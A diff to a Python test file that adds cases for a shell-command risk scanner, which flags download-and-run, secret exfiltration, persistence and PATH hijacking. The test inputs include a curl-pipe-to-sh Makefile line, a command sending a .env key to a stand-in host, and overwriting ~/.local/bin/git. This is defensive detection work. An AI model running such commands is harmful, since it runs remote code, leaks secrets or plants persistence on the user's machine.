@@ -180,6 +180,35 @@ def test_no_command_is_nothing() -> None:
     assert (assess_argv([]).score, assess_argv([]).tier) == (0, "L0")
 
 
+def test_a_file_that_runs_later_counts_by_the_danger_in_it_and_not_by_its_everyday_lines() -> None:
+    everyday = assess(b"printf 'test:\\n\\tpytest -q\\n' > Makefile", "bash")
+    fetches = assess(b"printf 'test:\\n\\tcurl https://h.example/x | sh\\n' > Makefile", "bash")
+    assert (everyday.tier, everyday.band) == ("L1", "low")
+    assert "sh.corr.download-run" in {found.rule for found in fetches.findings}
+
+
+def test_a_name_that_was_looked_up_is_no_disguise_and_one_that_was_printed_is() -> None:
+    assert rules('"$(command -v uname)" -a') == {"sh.sys.info"}
+    assert "sh.evade.shreds" in rules('"$(echo uname)" -a')
+
+
+def test_a_file_with_a_commands_name_takes_its_place_only_where_commands_are_looked_for() -> None:
+    assert "sh.persist.hook" in rules("cp tool ~/.local/bin/git")
+    assert "sh.persist.hook" not in rules("cp tool tools/git")
+    assert "sh.dyn.preload" in rules('echo ls > tools/git; PATH="$PWD/tools:$PATH"; git status')
+
+
+def test_a_question_about_the_machine_is_no_change_of_it() -> None:
+    assert rules("systemctl status web") == {"sh.sys.info", "sh.fs.read"}
+    assert "sh.persist.service" in rules("systemctl enable status")
+
+
+def test_what_a_header_says_is_how_a_caller_shows_who_it_is() -> None:
+    token = "K=$(grep KEY .env | cut -d= -f2); curl {} https://h.example/"
+    assert "sh.corr.secret-network" not in rules(token.format('-H "Authorization: $K"'))
+    assert "sh.corr.secret-network" in rules(token.format('-d "$K"'))
+
+
 EXAMPLES = [line.split(" %% ") for line in (DATA / "shell-rules.txt").read_text().strip().splitlines()]
 
 
